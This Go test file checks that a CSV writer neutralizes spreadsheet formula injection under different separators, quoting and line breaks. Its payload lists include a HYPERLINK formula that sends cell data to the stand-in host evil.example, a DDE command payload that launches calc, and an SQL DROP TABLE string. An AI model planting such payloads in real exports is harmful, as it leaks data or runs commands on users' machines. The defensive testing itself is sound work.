package csvexport

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
)

func TestWriter_RoundTrip(t *testing.T) {
	cases := []struct {
		name string
		in   string
		want string // the cell a spreadsheet shows
	}{
		{"plain", "P-100", "P-100"},
		{"comma", "a,b", "a,b"},
		{"quotes", `say "hi"`, `say "hi"`},
		{"only a quote", `"`, `"`},
		{"newline", "first\nsecond", "first\nsecond"},
		{"crlf inside", "a\r\nb", "a\r\nb"},
		{"equals formula", "=HYPERLINK(\"http://x\",\"y\")", "'=HYPERLINK(\"http://x\",\"y\")"},
		{"plus", "+1+2", "'+1+2"},
		{"minus", "-2+3", "'-2+3"},
		{"at", "@SUM(A1)", "'@SUM(A1)"},
		// The tab and the CR are prefixes and separators: a reader splitting
		// on them meets the = next.
		{"tab", "\t=1", "'\t'=1"},
		{"carriage return", "\r=1", "'\r'=1"},
		{"equals later is fine", "a=b", "a=b"},
		{"unicode", "Grüße ☃ 製品 🏭", "Grüße ☃ 製品 🏭"},
		{"rtl", "שלום,עולם", "שלום,עולם"},
		{"sql", `'; DROP TABLE x;--`, `'; DROP TABLE x;'--`},
		{"empty", "", ""},
		{"leading space", " x", " x"},
	}
	var buf bytes.Buffer
	w, err := NewWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	if err := w.Write("name", "value", "quantity"); err != nil {
		t.Fatal(err)
	}
	for _, c := range cases {
		if err := w.Write(c.name, c.in, int64(-5)); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := buf.String()
	if !strings.HasPrefix(out, "\ufeffname,value,quantity\r\n") {
		t.Fatalf("header = %q", out[:min(40, len(out))])
	}
	// Written byte for byte: a lone \r and a \r\n inside a value survive.
	for _, raw := range []string{"\"'\r'=1\"", "\"a\r\nb\"", "\"say \"\"hi\"\"\""} {
		if !strings.Contains(out, raw) {
			t.Errorf("output lacks %q", raw)
		}
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(out, "\ufeff")))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(cases)+1 {
		t.Fatalf("%d rows, want %d", len(rows), len(cases)+1)
	}
	for i, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			row := rows[i+1]
			// encoding/csv reads \r\n inside a quoted field as \n.
			want := strings.ReplaceAll(c.want, "\r\n", "\n")
			if row[1] != want {
				t.Fatalf("cell = %q, want %q", row[1], want)
			}
			if row[2] != "-5" {
				t.Fatalf("a number is written as a number: %q", row[2])
			}
		})
	}
}

func TestNeutralize(t *testing.T) {
	for in, want := range map[string]string{"=1": "'=1", "+": "'+", "-": "'-", "@": "'@", "x": "x", "": "", "'=1": "'=1"} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}

// excelSplit reads data as a spreadsheet does when it opens a CSV file with
// sep as the separator: German and French Excel and LibreOffice use ';'
// (their decimal separator is ','), others ',' or a tab. A field that starts
// with a quote is quoted up to a lone quote, and what follows that quote up
// to the separator is appended as it is; any other field runs to the next
// separator or line end, quotes and all.
func excelSplit(data string, sep byte) [][]string {
	var rows [][]string
	var row []string
	i := 0
	for i <= len(data) {
		var cell strings.Builder
		if i < len(data) && data[i] == '"' {
			i++
			for i < len(data) {
				if data[i] == '"' {
					if i+1 < len(data) && data[i+1] == '"' {
						cell.WriteByte('"')
						i += 2
						continue
					}
					i++
					break
				}
				cell.WriteByte(data[i])
				i++
			}
		}
		for i < len(data) && data[i] != sep && data[i] != '\n' && data[i] != '\r' {
			cell.WriteByte(data[i])
			i++
		}
		row = append(row, cell.String())
		if i < len(data) && data[i] == sep {
			i++
			continue
		}
		if i < len(data) && data[i] == '\r' {
			i++
			if i < len(data) && data[i] == '\n' {
				i++
			}
		} else {
			i++ // the \n, or past the end
		}
		rows = append(rows, row)
		row = nil
	}
	return rows
}

// isFormula reports whether a spreadsheet may run cell as a formula: it
// starts, after spaces (LibreOffice can trim them) and stray quotes, with
// one of OWASP's prefixes, and is not a plain number.
func isFormula(cell string) bool {
	if _, err := strconv.ParseFloat(cell, 64); err == nil {
		return false
	}
	t := strings.TrimLeft(cell, " \"")
	return t != "" && strings.ContainsRune("=+-@\t\r", rune(t[0]))
}

// TestWriter_NoFormulaInAnyLocale: text that hides a formula after a
// separator or a line break (L1;=HYPERLINK(…)) stays text whichever
// separator the spreadsheet splits on, where the text cell sits in its row,
// and whatever quotes, spaces or tabs surround the prefix.
func TestWriter_NoFormulaInAnyLocale(t *testing.T) {
	payloads := []string{
		`L1;=HYPERLINK("http://evil.example/?"&A1;"Details")`,
		"L1;=1+1",
		"L1; =1+1",
		`L1;"=1+1"`,
		`L1;" =cmd|' /C calc'!A0"`,
		"L1;+1+1",
		"L1;-1+1",
		"L1;@SUM(A1)",
		"L1,=1+1",
		"L1, =1+1",
		"L1\t=1+1",
		"L1\n=1+1",
		"L1\r\n=1+1",
		"L1\r=1+1",
		"L1;\t=1+1",
		"=1+1",
		" =1+1",
		"\"=1+1",
		"a;b;=c;d",
		"x;;=1",
	}
	var buf bytes.Buffer
	w, err := NewWriter(&buf)
	if err != nil {
		t.Fatal(err)
	}
	for _, p := range payloads {
		// The payload first, in the middle and last in its row.
		if err := w.Write(p, "P-100", int64(-5)); err != nil {
			t.Fatal(err)
		}
		if err := w.Write("P-100", p, int64(5)); err != nil {
			t.Fatal(err)
		}
		if err := w.Write("P-100", int64(5), p); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	out := strings.TrimPrefix(buf.String(), "\ufeff")
	for _, sep := range []byte{';', ',', '\t'} {
		for _, row := range excelSplit(out, sep) {
			for _, cell := range row {
				if isFormula(cell) {
					t.Errorf("separator %q: cell %q may run as a formula (row %q)", sep, cell, row)
				}
			}
		}
	}

	// A semicolon reader that honours quotes (LibreOffice, Excel) keeps a
	// text cell with ';' in one cell: it is quoted.
	r := csv.NewReader(strings.NewReader(out))
	r.Comma = ';'
	r.LazyQuotes = true
	r.FieldsPerRecord = -1
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		if strings.HasPrefix(row[0], "'L1;") && len(row) != 1 {
			t.Errorf("a text cell with ';' was split: %q", row)
		}
	}
}

func TestNeutralize_AfterSeparators(t *testing.T) {
	for in, want := range map[string]string{
		"L1;=1":      "L1;'=1",
		"L1; =1":     "L1;' =1",
		`L1;"=1"`:    `L1;'"=1"`,
		"L1,+1":      "L1,'+1",
		"L1\n-1":     "L1\n'-1",
		"L1\t@x":     "L1\t'@x",
		"L1\r\n=1":   "L1\r\n'=1",
		"a;b":        "a;b",
		"a=b;c":      "a=b;c",
		"x;;=1":      "x;;'=1",
		" =1":        "' =1",
		"2024-01-01": "2024-01-01",
		"Grüße;☃":    "Grüße;☃",
		"'=1":        "'=1",
		"L1;'=1":     "L1;'=1",
	} {
		if got := Neutralize(in); got != want {
			t.Errorf("Neutralize(%q) = %q, want %q", in, got, want)
		}
	}
}
